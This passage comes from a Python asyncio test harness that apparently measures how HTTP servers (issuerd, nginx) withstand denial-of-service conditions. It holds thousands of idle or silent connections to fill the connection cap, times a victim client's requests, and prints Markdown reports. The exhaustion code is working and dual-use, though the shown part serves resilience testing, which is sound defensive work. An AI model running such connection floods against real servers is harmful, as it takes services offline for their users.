                        payload = await asyncio.wait_for(r.readexactly(n), 10) if n else b""
                        if head[3] == SETTINGS and not head[4] & ACK:
                            w.write(frame(SETTINGS, ACK, 0))
                        elif head[3] == HEADERS:
                            status = status_of(payload)
                            if head[4] & END_STREAM:
                                break
                        elif head[3] == DATA and head[4] & END_STREAM:
                            break
                        elif head[3] in (GOAWAY, RST_STREAM):
                            raise ConnectionError("GOAWAY/RST")
                if status != 200:
                    failures[f"status {status}"] += 1
                held.append((r, w))
            except Exception as e:  # noqa: BLE001
                failures[type(e).__name__] += 1
                abort(w)

    rss0 = proc_status_kib(pids, "RssAnon")
    t0 = time.monotonic()
    await asyncio.gather(*(one() for _ in range(conns)))
    open_s = time.monotonic() - t0
    await asyncio.sleep(1.0)
    still = sum(1 for r, _ in held if not r.at_eof())
    rss1 = proc_status_kib(pids, "RssAnon")
    for _, w in held:
        abort(w)
    await asyncio.sleep(0.5)
    return {"proto": proto, "conns": conns, "established": len(held), "still_open": still,
            "failures": dict(failures), "open_s": round(open_s, 2),
            "rss_before_kib": rss0, "rss_held_kib": rss1,
            "kib_per_conn": round((rss1 - rss0) / max(1, len(held)), 2),
            "server_alive": alive(pids)}


def cmd_idle(a):
    raise_nofile(a.conns + 512)
    res = asyncio.run(hold_idle(a.port, a.pid, a.conns, a.proto, a.parallel))
    res.update({"scenario": "idle", "server": a.server})
    print(json.dumps(res))


# ---------------------------------------------------------------- connection cap
async def cap_fairness(port, silent, timeout, probes, parallel):
    sem = asyncio.Semaphore(parallel)
    socks = []
    failures = Counter()

    async def connect():
        async with sem:
            try:
                r, w = await asyncio.wait_for(asyncio.open_connection(HOST, port), 5)
                socks.append((r, w))
            except Exception as e:  # noqa: BLE001
                failures[type(e).__name__] += 1

    await asyncio.gather(*(connect() for _ in range(silent)))
    await asyncio.sleep(1.0)
    req = f"GET {JWKS} HTTP/1.1\r\nHost: {HOST}:{port}\r\nConnection: close\r\n\r\n".encode()
    results = []
    for _ in range(probes):
        t0 = time.perf_counter()
        w = None
        try:
            r, w = await asyncio.wait_for(asyncio.open_connection(HOST, port), timeout)
            w.write(req)
            left = timeout - (time.perf_counter() - t0)
            head = await asyncio.wait_for(r.readuntil(b"\r\n\r\n"), max(left, 0.001))
            status = int(head.split(b" ", 2)[1])
            results.append({"ms": round((time.perf_counter() - t0) * 1000.0, 2), "status": status})
        except asyncio.TimeoutError:
            results.append({"ms": None, "error": f"no answer in {timeout:.0f} s"})
        except (ConnectionError, asyncio.IncompleteReadError, OSError) as e:
            results.append({"ms": round((time.perf_counter() - t0) * 1000.0, 2),
                            "error": "closed: " + type(e).__name__})
        finally:
            if w is not None:
                abort(w)
        await asyncio.sleep(0.3)
    # How many silent connections the server has closed meanwhile.
    closed = 0
    for r, _ in socks:
        try:
            await asyncio.wait_for(r.read(1), 0.001)
            closed += 1  # EOF or a byte: the server acted on it
        except asyncio.TimeoutError:
            pass
        except (ConnectionError, OSError):
            closed += 1
    for _, w in socks:
        abort(w)
    await asyncio.sleep(0.3)
    return {"silent": silent, "silent_connected": len(socks), "silent_closed_by_server": closed,
            "connect_failures": dict(failures), "probes": results}


def cmd_capfair(a):
    raise_nofile(a.silent + 512)
    res = asyncio.run(cap_fairness(a.port, a.silent, a.timeout, a.probes, a.parallel))
    res.update({"scenario": "capfair", "server": a.server, "cap": a.cap_label})
    print(json.dumps(res))


# ---------------------------------------------------------------- report
def fmt_ms(x):
    if x is None:
        return "n/a"
    return f"{x:.1f}" if x < 100 else f"{x:.0f}"


def ratio(a, b):
    if a is None or b is None or b == 0:
        return "n/a"
    return f"{a / b:.1f}×"


def cmd_report(a):
    rows = []
    with open(a.results) as f:
        for line in f:
            line = line.strip()
            if line:
                rows.append(json.loads(line))
    out = []
    att = [r for r in rows if "attack" in r]
    if att:
        out.append("### Attacks: victim latency (fresh h2c connection + one GET every "
                   f"{a.interval * 1000:.0f} ms), unattacked vs attacked\n")
        out.append("| scenario | server | victim p50 unattacked → attacked (ratio) "
                   "| victim p99 unattacked → attacked (ratio) | victim failures | server CPU % "
                   "| attack connections closed / opened (first close) | how closed "
                   "| frames taken before close (probe) | attack requests answered |")
        out.append("|---|---|---|---|--:|--:|---|---|---|--:|")
        for r in att:
            u, v, k, pr = r["unattacked"], r["attacked"], r["attack"], r.get("probe") or {}
            fails = sum(v["errors"].values())
            errs = ", ".join(f"{e}: {n}" for e, n in v["errors"].items())
            ends = ", ".join(f"{e} ×{n}" for e, n in sorted(k["ends"].items(), key=lambda kv: -kv[1]))
            if not ends:
                ends = "never: open when the attack stopped"
            elif k["open_at_end"]:
                ends += f"; {k['open_at_end']} open at the end"
            first = "" if k["first_end_s"] is None else f" (first at {k['first_end_s']:.2f} s)"
            if pr.get("end"):
                probe = f"{pr['acked']:,}–{pr['sent']:,}, then {pr['end']}"
            elif pr:
                probe = f"> {pr['acked']:,} in {pr['secs']:.1f} s, not closed"
            else:
                probe = "n/a"
            dead = "" if r.get("server_alive", True) else " **(server died)**"
            out.append(
                f"| {r['scenario']} ({r['conns']} conns) | {r['server']}{dead} | "
                f"{fmt_ms(u['p50_ms'])} → {fmt_ms(v['p50_ms'])} ms ({ratio(v['p50_ms'], u['p50_ms'])}) | "
                f"{fmt_ms(u['p99_ms'])} → {fmt_ms(v['p99_ms'])} ms ({ratio(v['p99_ms'], u['p99_ms'])}) | "
                f"{fails}/{v['samples']}{' (' + errs + ')' if errs else ''} | {r['cpu_pct']:.0f} | "
                f"{k['connections_ended']} / {k['connections_opened']}{first} | {ends} | {probe} | "
                f"{k['responses']:,} |")
        out.append("")
        out.append("Ratios > 1: the attack slows the victim down; failures count as the 5 s timeout "
                   "in the percentiles. Server CPU: % of one core during the attack (issuerd: the "
                   "process; nginx: master + worker). Attackers reconnect at once when closed. "
                   "\"Frames taken before close\": one more connection sends the attack frames in "
                   "batches (100 up to 10,000, 1,000 up to 100,000, then 10,000; hpack: 100 "
                   "requests) and counts a batch once the server has read all of it "
                   "(its socket receive queue empty, from sock_diag) and not closed 1 ms later, for at most "
                   "1,000,000 frames or 2 s.")
        out.append("")
    part = [r for r in rows if r.get("scenario") == "partial"]
    if part:
        out.append("### Memory: connections holding a partial header block\n")
        out.append("| server | connections | block held (largest kept, ≤ limit) | RssAnon held (Δ) "
                   "| per connection | server's answer (median time) | connections closed after: "
                   "median / max | still open at cap | RssAnon once answered "
                   "| RssAnon once all closed |")
        out.append("|---|--:|--:|--:|--:|---|---|--:|--:|--:|")
        for r in part:
            if not r.get("established"):
                out.append(f"| {r['server']} | 0/{r['conns']} | none (limit {r['block_limit']:,} B): "
                           f"{r.get('note', '')} | | | | | | | |")
                continue
            ends = ", ".join(f"{e} ×{n}" for e, n in sorted(r["ends"].items(), key=lambda kv: -kv[1])
                             if not e.startswith("still open"))
            if r.get("reacted_median_s") is not None:
                ends += f" ({r['reacted_median_s']} s)"
            if not ends:
                ends = "none"
            kept = "n/a" if r["kept_median_s"] is None else f"{r['kept_median_s']} s / {r['kept_max_s']} s"
            dead = "" if r.get("server_alive", True) else " **(server died)**"
            if r.get("rss_reacted_kib") is not None:
                reacted = f"{r['rss_reacted_kib'] / 1024:.1f} MiB"
            elif r["still_open_at_cap"] == 0 and r.get("reacted"):
                reacted = "(closed with the answer)"
            else:
                reacted = "n/a"
            out.append(
                f"| {r['server']}{dead} | {r['established']}/{r['conns']} | "
                f"{r['block_bytes']:,} B (limit {r['block_limit']:,}) | "
                f"{r['rss_before_kib'] / 1024:.1f} → {r['rss_held_kib'] / 1024:.1f} MiB | "
                f"{r['kib_per_conn']:.1f} KiB | {ends} | {kept} | {r['still_open_at_cap']} (cap {r['cap_s']:.0f} s) | "
                f"{reacted} | {r['rss_after_kib'] / 1024:.1f} MiB |")
        if part:
            out.append("")
            out.append(f"Header timeout: {part[0].get('header_timeout', '')}. The block is the largest "
                       "multiple of 1 KiB (at most the limit) that a test connection could leave "
                       "unanswered for 0.3 s; all servers are loaded at once, each with its own "
                       "connections; RssAnon is the server's (nginx: master + worker).")
        out.append("")
    idle = [r for r in rows if r.get("scenario") == "idle"]
    if idle:
        out.append("### Memory: idle connections (one request each, then idle)\n")
        out.append("| server | protocol | connections open | RssAnon before → held | per connection |")
        out.append("|---|---|--:|---|--:|")
        for r in idle:
            fails = ", ".join(f"{e}: {n}" for e, n in r["failures"].items())
            out.append(
                f"| {r['server']} | {'HTTP/1.1 keep-alive' if r['proto'] == 'h1' else 'h2c'} | "
                f"{r['still_open']}/{r['conns']}{' (' + fails + ')' if fails else ''} | "
                f"{r['rss_before_kib'] / 1024:.1f} → {r['rss_held_kib'] / 1024:.1f} MiB | "
                f"{r['kib_per_conn']:.2f} KiB |")
        out.append("")
    cap = [r for r in rows if r.get("scenario") == "capfair"]
    if cap:
        out.append("### Connection cap: silent connections fill it, then a new client's GET\n")
        out.append("| server | cap | silent connections (connected / closed by the server) "
                   "| new client's GETs (HTTP/1.1) |")
        out.append("|---|---|--:|---|")
        for r in cap:
            probes = "; ".join(
                (f"{p['status']} in {p['ms']:.1f} ms" if "status" in p else
                 (f"{p['error']}" + (f" after {p['ms']:.1f} ms" if p.get('ms') is not None else "")))
                for p in r["probes"])
            out.append(f"| {r['server']} | {r['cap']} | {r['silent_connected']}/{r['silent']} "
                       f"({r['silent_closed_by_server']} closed) | {probes} |")
        out.append("")
    print("\n".join(out))


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    sub = ap.add_subparsers(dest="cmd", required=True)

    p = sub.add_parser("victim")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--interval", type=float, default=0.05)
    p.add_argument("--duration", type=float, default=5.0)
    p.add_argument("--timeout", type=float, default=5.0)
    p.set_defaults(fn=cmd_victim)

    p = sub.add_parser("attack")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--kind", required=True)
    p.add_argument("--conns", type=int, default=2)
    p.add_argument("--duration", type=float, default=10.0)
    p.add_argument("--reconnect", action="store_true")
    p.set_defaults(fn=cmd_attack)

    p = sub.add_parser("scenario")
    p.add_argument("--name", required=True)
    p.add_argument("--server", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--pid", type=int, action="append", default=[])
    p.add_argument("--kind", required=True)
    p.add_argument("--conns", type=int, default=2)
    p.add_argument("--baseline", type=float, default=3.0)
    p.add_argument("--duration", type=float, default=10.0)
    p.add_argument("--warmup", type=float, default=0.5)
    p.add_argument("--interval", type=float, default=0.05)
    p.add_argument("--timeout", type=float, default=5.0)
    p.add_argument("--no-reconnect", dest="reconnect", action="store_false")
    p.add_argument("--probe-frames", type=int, default=1000000)
    p.add_argument("--probe-secs", type=float, default=2.0)
    p.set_defaults(fn=cmd_scenario)

    p = sub.add_parser("probe")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--kind", required=True)
    p.add_argument("--max-frames", type=int, default=1000000)
    p.add_argument("--max-secs", type=float, default=2.0)
    p.set_defaults(fn=cmd_probe)

    p = sub.add_parser("partial")
    p.add_argument("--target", action="append", required=True, help="NAME=PORT:PID[,PID...]")
    p.add_argument("--conns", type=int, default=2000)
    p.add_argument("--block", type=int, default=65536)
    p.add_argument("--cap", type=float, default=60.0)
    p.add_argument("--parallel", type=int, default=128)
    p.add_argument("--header-timeout", default="")
    p.set_defaults(fn=cmd_partial)

    p = sub.add_parser("idle")
    p.add_argument("--server", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--pid", type=int, action="append", default=[])
    p.add_argument("--conns", type=int, default=10000)
    p.add_argument("--proto", choices=("h1", "h2"), default="h1")
    p.add_argument("--parallel", type=int, default=256)
    p.set_defaults(fn=cmd_idle)

    p = sub.add_parser("capfair")
    p.add_argument("--server", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--silent", type=int, default=300)
    p.add_argument("--timeout", type=float, default=5.0)
    p.add_argument("--probes", type=int, default=3)
    p.add_argument("--parallel", type=int, default=64)
    p.add_argument("--cap-label", default="")
    p.set_defaults(fn=cmd_capfair)

    p = sub.add_parser("report")
    p.add_argument("results")
    p.add_argument("--interval", type=float, default=0.05)
    p.set_defaults(fn=cmd_report)

    a = ap.parse_args()
    a.fn(a)


if __name__ == "__main__":
    main()
